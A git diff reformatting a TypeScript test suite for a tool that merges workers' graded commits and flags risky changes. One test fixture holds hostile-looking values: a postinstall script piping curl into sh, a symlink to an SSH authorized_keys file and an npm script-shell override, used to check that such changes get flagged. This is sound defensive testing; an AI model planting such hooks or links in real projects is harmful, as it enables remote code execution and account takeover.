@@ -34,7 +34,8 @@ afterAll(async () => {
 
 let n = 0;
 const repo = (files: Record<string, string> = { "README.md": "# r\n", "f.txt": "base\n" }) => committedRepo(path.join(tmp, `repo-${n++}`), files);
-const g = (dir: string, ...args: string[]) => execFileSync("git", ["-C", dir, ...args], { encoding: "utf8", env: { ...process.env, GIT_OPTIONAL_LOCKS: "0" } }).trim();
+const g = (dir: string, ...args: string[]) =>
+  execFileSync("git", ["-C", dir, ...args], { encoding: "utf8", env: { ...process.env, GIT_OPTIONAL_LOCKS: "0" } }).trim();
 
 /** A commit on `parent` with these files (written as raw blobs, no filter), like the engine's graded commit. */
 function commitFiles(dir: string, parent: string, files: Record<string, string | { content: string; mode: string } | null>, message = "work"): string {
@@ -56,7 +57,13 @@ function commitFiles(dir: string, parent: string, files: Record<string, string |
 }
 
 /** Everything of the checkout a merge could change: branch tips, HEAD, index, and the files' status (ignored ones too). */
-const fingerprint = (dir: string) => [g(dir, "for-each-ref"), readFileSync(path.join(dir, ".git", "HEAD"), "utf8"), readFileSync(path.join(dir, ".git", "index")).toString("hex"), g(dir, "status", "--porcelain", "--ignored", "--untracked-files=all")].join("\n---\n");
+const fingerprint = (dir: string) =>
+  [
+    g(dir, "for-each-ref"),
+    readFileSync(path.join(dir, ".git", "HEAD"), "utf8"),
+    readFileSync(path.join(dir, ".git", "index")).toString("hex"),
+    g(dir, "status", "--porcelain", "--ignored", "--untracked-files=all"),
+  ].join("\n---\n");
 
 describe("landing a graded commit", () => {
   it("a worker's .gitattributes + .lfsconfig + LFS pointer: merged as the graded blobs, no filter runs, nothing is fetched; flagged", async () => {
@@ -92,7 +99,9 @@ describe("landing a graded commit", () => {
     writeFileSync(path.join(r, "f.txt"), "mine\n");
     g(r, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "mine");
     const before = fingerprint(r);
-    await expect(landCommit({ repo: r, branch: "main", commit, message: "m", onConflict: (files) => `continue the worker on the new base (${files.join(", ")})` })).rejects.toThrow(/conflicts in f\.txt; nothing was changed\. continue the worker on the new base \(f\.txt\)/);
+    await expect(
+      landCommit({ repo: r, branch: "main", commit, message: "m", onConflict: (files) => `continue the worker on the new base (${files.join(", ")})` }),
+    ).rejects.toThrow(/conflicts in f\.txt; nothing was changed\. continue the worker on the new base \(f\.txt\)/);
     expect(fingerprint(r)).toBe(before);
     expect(existsSync(path.join(r, "new.txt"))).toBe(false);
   });
@@ -120,7 +129,9 @@ describe("landing a graded commit", () => {
     const base = g(r, "rev-parse", "HEAD");
     const commit = commitFiles(r, base, { "g.txt": "one\ntwo\n" });
     const before = fingerprint(r);
-    await expect(landCommit({ repo: r, branch: "main", commit, message: "m" })).rejects.toThrow(/not the graded ones \(g\.txt \(content differs from the graded blob\)\): the merge was undone and refused/);
+    await expect(landCommit({ repo: r, branch: "main", commit, message: "m" })).rejects.toThrow(
+      /not the graded ones \(g\.txt \(content differs from the graded blob\)\): the merge was undone and refused/,
+    );
     expect(existsSync(path.join(r, "g.txt"))).toBe(false);
     expect(g(r, "rev-parse", "HEAD")).toBe(base);
     expect(fingerprint(r)).toBe(before);
@@ -130,7 +141,7 @@ describe("landing a graded commit", () => {
     const r = repo({ "README.md": "# r\n", "package.json": '{"name":"x","scripts":{"test":"node --test"}}\n', "run.sh": "echo\n" });
     const base = g(r, "rev-parse", "HEAD");
     const commit = commitFiles(r, base, {
-      "link": { content: "/home/someone/.ssh/authorized_keys", mode: "120000" },
+      link: { content: "/home/someone/.ssh/authorized_keys", mode: "120000" },
       "run.sh": { content: "echo\n", mode: "100755" },
       "package.json": '{"name":"x","scripts":{"test":"node --test","postinstall":"curl x | sh"}}\n',
       ".npmrc": "script-shell=/tmp/x\n",
@@ -140,7 +151,15 @@ describe("landing a graded commit", () => {
       "README.md": "# changed\n",
     });
     const flags = await flaggedChanges(r, base, commit);
-    expect(flags.map((f) => `${f.path}:${f.kind}`).sort()).toEqual([".github/workflows/ci.yml:tool-config", ".husky/pre-commit:tool-config", ".npmrc:tool-config", ".vscode/tasks.json:tool-config", "link:symlink", "package.json:tool-config", "run.sh:executable"]);
+    expect(flags.map((f) => `${f.path}:${f.kind}`).sort()).toEqual([
+      ".github/workflows/ci.yml:tool-config",
+      ".husky/pre-commit:tool-config",
+      ".npmrc:tool-config",
+      ".vscode/tasks.json:tool-config",
+      "link:symlink",
+      "package.json:tool-config",
+      "run.sh:executable",
+    ]);
     expect(flags.find((f) => f.path === "link")!.detail).toContain("authorized_keys");
     // Landed, the symlink and the mode are exactly the graded ones.
     await landCommit({ repo: r, branch: "main", commit, message: "m" });
@@ -173,15 +192,32 @@ describe("landing a graded commit", () => {
     const a = commitFiles(r, base, { "a.txt": "a\n" });
     const b = commitFiles(r, a, { "b.txt": "reads a\n" }); // made on top of a
     const c = commitFiles(r, base, { "c.txt": "c\n" });
-    const ok = await combineCommits(r, base, [{ id: "a", commit: a }, { id: "b", commit: b }, { id: "c", commit: c }], "integration");
+    const ok = await combineCommits(
+      r,
+      base,
+      [
+        { id: "a", commit: a },
+        { id: "b", commit: b },
+        { id: "c", commit: c },
+      ],
+      "integration",
+    );
     expect("commit" in ok).toBe(true);
     const commit = (ok as { commit: string }).commit;
     expect(g(r, "rev-parse", `${commit}^`)).toBe(base);
     expect(g(r, "ls-tree", "--name-only", commit).split("\n").sort()).toEqual(["README.md", "a.txt", "b.txt", "c.txt", "f.txt"]);
     const x = commitFiles(r, base, { "f.txt": "x\n" });
     const y = commitFiles(r, base, { "f.txt": "y\n" });
-    expect(await combineCommits(r, base, [{ id: "x", commit: x }, { id: "y", commit: y }], "i")).toEqual({ conflict: { id: "y", files: ["f.txt"] } });
+    expect(
+      await combineCommits(
+        r,
+        base,
+        [
+          { id: "x", commit: x },
+          { id: "y", commit: y },
+        ],
+        "i",
+      ),
+    ).toEqual({ conflict: { id: "y", files: ["f.txt"] } });
   });
 });
-
-
